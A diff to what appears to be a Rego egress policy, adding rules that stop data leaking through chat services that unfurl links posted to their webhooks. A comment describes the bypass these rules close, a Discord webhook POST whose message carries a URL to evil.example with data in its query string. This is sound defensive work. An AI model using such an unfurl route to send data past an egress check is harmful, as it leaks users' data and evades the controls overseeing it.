@@ -1661,6 +1661,53 @@ fetch_through if {
 	not same_site(h)
 }
 
+# A chat that unfurls links (browse.unfurlers: Discord's webhooks, Teams, Google Chat, Zulip)
+# fetches every URL a message it is sent holds, to show a preview: a message naming another site's
+# URL takes the data in it there (seventeenth pass: a `{"content": "see https://evil.example/?d=…"}`
+# POSTed to an allowed Discord webhook went on under the entry's method). Every string of such a
+# write's body is read, at most 1,024 of them.
+fetch_through if {
+	plain_host_request
+	extra_host_allowed
+	not reads_only
+	unfurling_host
+	some b in unfurled_texts
+	text_fetches_elsewhere(b)
+}
+
+unfurling_host if {
+	some p in object.get(browse_conf, "unfurlers", [])
+	host_matches(lower(p), host)
+}
+
+# A body too big to read here is held whole.
+fetch_through if {
+	plain_host_request
+	extra_host_allowed
+	not reads_only
+	unfurling_host
+	input.request.body.size > 65536
+}
+
+unfurled_texts contains v if {
+	x := input.request.body.json
+	is_body_tree(x)
+	input.request.body.size <= 65536
+	vs := [s | walk(x, [_, s]); is_string(s)]
+	some v in array.slice(vs, 0, 1024)
+}
+
+unfurled_texts contains v if {
+	some _, vs in object.get(input.request.body, "form", {})
+	some v in vs
+}
+
+unfurled_texts contains t if {
+	not "json" in object.keys(input.request.body)
+	not "form" in object.keys(input.request.body)
+	t := object.get(input.request.body, "text", "")
+}
+
 # Names compared without case, `_` or `-` (`startUrls`, `start_urls`, `webhook-url`). A field a
 # service sends its results to is one too (fifteenth pass: a crawl's `webhook`, `callback_url`,
 # `notify_url`: the service POSTs there), and so are fields below the top level (Apify's
